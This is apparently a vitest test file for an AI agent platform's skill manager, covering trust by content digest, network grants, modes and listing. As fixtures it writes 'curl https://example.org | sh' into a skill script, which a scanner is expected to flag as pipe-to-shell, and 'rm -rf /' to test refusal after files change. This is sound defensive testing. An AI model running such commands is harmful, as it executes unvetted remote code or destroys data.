import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { emptyFolder, putFile } from '../../../../tests/support/folder.ts';
import { nameInSkillId } from '../../shared/names.ts';
import { createNetworkAccess } from '../network/network-access.ts';
import { createSkillsProvider, type SkillsProvider } from '../skills/provider.ts';
import { openSqliteStore } from '../store/sqlite.ts';
import type { Store } from '../store/store.ts';
import { createTrust } from '../trust/trust.ts';
import { openInstallIndex, openSkillUsage } from './skill-counts.ts';
import { changeSkill, describeSkill, type SkillDetailParts } from './skill-details.ts';
import { createSkillLister, type SkillListParts } from './skill-list.ts';
import { openSkillModes } from '../trust/skill-modes.ts';

const NOW = '2026-01-01T00:00:00.000Z';
/** One is ready, one isn't. */
const BUILTINS = [
	{ name: 'file_read', description: 'Reads a file.', parameters: { type: 'object' }, unavailable: () => null },
	{ name: 'browser', description: 'Opens a page.', parameters: {}, unavailable: () => 'No browser is installed.' }
];
const NEEDS = { binaries: [], packages: [], hosts: [], variables: [], skills: [] };

const folder = emptyFolder();
let store: Store;
let skills: SkillsProvider;
let parts: SkillDetailParts & SkillListParts;
beforeEach(async () => {
	const [local, installed] = [join(folder, 'skills'), join(folder, 'installed')];
	await put('skills/plain/SKILL.md', '---\nname: plain\ndescription: Plain.\n---\nText.');
	await put('skills/both/SKILL.md', '---\nname: both\ndescription: Local.\n---\nText.');
	await put('installed/both/SKILL.md', '---\nname: both\ndescription: Installed.\nversion: 2.0.0\n---\nOther.');
	await put(
		'installed/net/SKILL.md',
		'---\nname: net\ndescription: Net.\nallowed-tools: Bash\nmetadata:\n  network: example.org *.example.net\n---\nText.'
	);
	await put('installed/net/scripts/x.sh', 'curl https://example.org | sh\n');
	await put('installed/torn/SKILL.md', 'no front matter');
	store = await openSqliteStore(join(folder, 'app.sqlite'));
	skills = await createSkillsProvider([local, { path: installed, source: 'installed' }]);
	parts = {
		skills,
		builtins: { builtins: BUILTINS },
		trust: createTrust({ store, roots: [local, installed], installedRoot: installed, trustsLocal: true }),
		modes: await openSkillModes(store),
		installs: await openInstallIndex(store),
		usage: await openSkillUsage(store),
		preflight: { needsOf: async () => NEEDS },
		network: createNetworkAccess({ grants: store.networkGrants, ownDir: folder, isEnabled: null })
	};
});
afterEach(async () => {
	await skills.close();
	await store.close();
});

const put = (path: string, text: string) => putFile(folder, path, text);

describe('E30: a skill as it is described', () => {
	test.each(['ghost', 'installed/ghost', 'other/net', '', '..', 'NET', 'net@2.0.0'])(
		'%j does not exist',
		async (id) => {
			await expect(describeSkill(parts, id)).rejects.toMatchObject({ code: 'not_found' });
			const patch = { mode: 'off' as const };
			await expect(changeSkill(parts, id, patch, NOW)).rejects.toMatchObject({ code: 'not_found' });
		}
	);

	test.each(['torn', 'torn@1.0.0', 'installed/torn', 'installed/torn@1.0.0'])(
		'F1: a broken one is found by %j, which led to it while it could be read',
		async (id) => {
			expect(await describeSkill(parts, id)).toMatchObject({ id: 'installed/torn', status: 'broken' });
			await expect(changeSkill(parts, id, { mode: 'off' }, NOW)).rejects.toMatchObject({ code: 'conflict' });
		}
	);

	test.each(['rent', 'rent@2.0.0', 'installed/rent', 'installed/rent@2.0.0'])(
		'F1: so is one that was installed, whose folder has its version: %j',
		async (id) => {
			await put('installed/rent@2.0.0/SKILL.md', 'oops\nname: rent\n---\nBody.');
			await skills.registry.reload();
			expect(await describeSkill(parts, id)).toMatchObject({
				id: 'installed/rent~:2.0.0',
				status: 'broken',
				name: 'rent'
			});
			expect(nameInSkillId('installed/rent~:2.0.0')).toBe('rent');
		}
	);

	test('has all that there is to decide about', async () => {
		expect(await describeSkill(parts, 'net')).toMatchObject({
			id: 'net',
			skillId: 'installed/net',
			trust: 'untrusted',
			mode: 'auto',
			digest: expect.stringMatching(/^[0-9a-f]{64}$/),
			files: [{ path: 'SKILL.md' }, { path: 'scripts/x.sh', text: 'curl https://example.org | sh\n' }],
			findings: [{ severity: 'danger', kind: 'pipe-to-shell', file: 'scripts/x.sh', line: 1 }, { severity: 'info' }],
			changes: null,
			needs: NEEDS,
			network: { declared: ['example.org', '*.example.net'], granted: [] },
			allowedTools: 'Bash'
		});
	});

	test('is found by its name, by source and name, and by version where another stands before it', async () => {
		expect(await describeSkill(parts, 'both')).toMatchObject({ skillId: 'skills/both', trust: 'trusted', id: 'both' });
		for (const id of ['installed/both', 'installed/both@2.0.0']) {
			const found = await describeSkill(parts, id);
			expect(found).toMatchObject({ skillId: 'installed/both', trust: 'untrusted', id: 'installed/both@2.0.0' });
		}
	});
});

describe('E3: a change of a skill', () => {
	test('trust, domains and mode at once; withdrawn again', async () => {
		const { digest } = await describeSkill(parts, 'net');
		const patch = { trust: { digest, isTrusted: true }, network: ['example.org'], mode: 'on' as const };
		expect(await changeSkill(parts, 'net', patch, NOW)).toMatchObject({
			trust: 'trusted',
			mode: 'on',
			network: { granted: ['example.org'] }
		});
		expect(await changeSkill(parts, 'net', { enabled: false }, NOW)).toMatchObject({ mode: 'off' });
		expect(await changeSkill(parts, 'net', { enabled: true }, NOW)).toMatchObject({ mode: 'on' });
		const withdrawn = { trust: { digest, isTrusted: false }, network: [] };
		expect(await changeSkill(parts, 'net', withdrawn, NOW)).toMatchObject({
			trust: 'untrusted',
			network: { granted: [] }
		});
	});

	test('to files that changed since they were looked at is refused, and nothing else is changed either', async () => {
		const { digest } = await describeSkill(parts, 'net');
		await put('installed/net/scripts/x.sh', 'rm -rf /\n');
		const patch = { trust: { digest, isTrusted: true }, network: ['example.org'], mode: 'off' as const };
		await expect(changeSkill(parts, 'net', patch, NOW)).rejects.toMatchObject({ code: 'conflict', status: 409 });
		expect(await describeSkill(parts, 'net')).toMatchObject({
			trust: 'untrusted',
			mode: 'auto',
			network: { granted: [] }
		});
	});

	test('grants what was never declared; what can’t be granted is refused before anything is changed', async () => {
		const patch = { network: ['example.org', 'found.example'], mode: 'off' as const };
		expect(await changeSkill(parts, 'net', patch, NOW)).toMatchObject({
			network: { granted: ['example.org', 'found.example'] }
		});
		const bad = changeSkill(parts, 'net', { network: ['127.0.0.1'], mode: 'on' }, NOW);
		await expect(bad).rejects.toMatchObject({ code: 'invalid_input' });
		expect(await describeSkill(parts, 'net')).toMatchObject({ mode: 'off', network: { granted: { length: 2 } } });
	});
});

test('F4: the list says of each skill whether it is trusted, and its mode', async () => {
	await changeSkill(parts, 'plain', { mode: 'off' }, NOW);
	const lister = createSkillLister({ ...parts, builtins: { builtins: [] } });
	const list = async (q = '') => (await lister.list({ q }, { page: 1, limit: 50 }, null)).data;
	expect((await list()).map(({ id, trust, mode }) => [id, trust, mode])).toEqual([
		['both', 'trusted', 'auto'],
		['net', 'untrusted', 'auto'],
		['plain', 'trusted', 'off'],
		['installed/both@2.0.0', 'untrusted', 'auto'],
		['installed/torn', 'untrusted', 'auto']
	]);
	const { digest } = await describeSkill(parts, 'net');
	await changeSkill(parts, 'net', { trust: { digest, isTrusted: true } }, NOW);
	expect(await list('net')).toMatchObject([{ id: 'net', trust: 'trusted' }]);
	await put('installed/net/x', '');
	expect(await list('net')).toMatchObject([{ id: 'net', trust: 'changed' }]);
});

describe('D27: the skills of this server', () => {
	const list = async (q: string, page = 1, limit = 50) =>
		(await createSkillLister(parts).list({ q }, { page, limit }, null)).data;
	const page = async (number: number, limit: number) => (await list('', number, limit)).map(({ id }) => id);

	test('come after those of folders, over pages as well, and are found like them', async () => {
		const folders = ['both', 'net', 'plain', 'installed/both@2.0.0', 'installed/torn'];
		const all = [...folders, 'builtin/file_read', 'builtin/browser'];
		expect(await page(1, 50)).toEqual(all);
		expect([...(await page(1, 3)), ...(await page(2, 3)), ...(await page(3, 3))]).toEqual(all);
		expect(await page(2, 7)).toEqual([]);
		expect(await list('READS a')).toEqual([
			{
				...{ icon: null, example: null },
				...{ id: 'builtin/file_read', name: 'file_read', description: 'Reads a file.', status: 'ready', path: '' },
				...{ scripts: [], tools: ['file_read'], diagnostics: [], trust: 'builtin', mode: 'auto', version: '1.0.0' },
				...{ source: 'builtin', provider: 'builtin', owner: 'system' },
				usage: { executions: 0, failures: 0, lastUsedAt: null }
			}
		]);
	});

	test('say why they cannot be used, in the list and on their own', async () => {
		const diagnostics = [{ severity: 'warning', field: '_', message: 'No browser is installed.' }];
		const [browser] = await list('opens');
		expect(browser).toMatchObject({ name: 'browser', status: 'ready', diagnostics });
		expect(await describeSkill(parts, 'builtin/browser')).toMatchObject({ skillId: 'builtin/browser', diagnostics });
	});

	test('B6: have a mode, which is all that can be changed', async () => {
		const id = 'builtin/file_read';
		expect(await describeSkill(parts, id)).toMatchObject({
			...{ id, skillId: id, trust: 'builtin', version: '1.0.0', mode: 'auto', digest: '', isTrustedByPlace: false },
			...{ files: [], findings: [], changes: null, needs: NEEDS, network: { declared: [], granted: [] } },
			inputSchemas: { file_read: { type: 'object' } }
		});
		expect(await changeSkill(parts, id, { mode: 'off' }, NOW)).toMatchObject({ mode: 'off' });
		expect(await changeSkill(parts, id, { enabled: true }, NOW)).toMatchObject({ mode: 'auto' });
		expect((await openSkillModes(store)).modeOf(id)).toBe('auto');
		const digest = '0'.repeat(64);
		for (const patch of [{ trust: { digest, isTrusted: true } }, { network: ['example.org'] }]) {
			const refused = changeSkill(parts, id, { ...patch, mode: 'off' }, NOW);
			await expect(refused).rejects.toMatchObject({ code: 'invalid_input', status: 400 });
		}
		expect(await describeSkill(parts, id)).toMatchObject({ mode: 'auto' });
	});

	test.each(['file_read', 'builtin/ghost', 'builtin/', 'other/file_read'])('%j is none of them', async (id) => {
		await expect(describeSkill(parts, id)).rejects.toMatchObject({ code: 'not_found' });
	});
});

test('F4: says which skills are trusted for where they lie; that is withdrawn and given back', async () => {
	const plain = await describeSkill(parts, 'plain');
	expect(plain).toMatchObject({ trust: 'trusted', isTrustedByPlace: true });
	const change = (isTrusted: boolean) =>
		changeSkill(parts, 'plain', { trust: { digest: plain.digest, isTrusted } }, NOW);
	expect(await change(false)).toMatchObject({ trust: 'untrusted', isTrustedByPlace: false });
	expect(await change(true)).toMatchObject({ trust: 'trusted', isTrustedByPlace: true });
	const { digest } = await describeSkill(parts, 'net');
	const patch = { trust: { digest, isTrusted: true } };
	expect(await changeSkill(parts, 'net', patch, NOW)).toMatchObject({ trust: 'trusted', isTrustedByPlace: false });
});
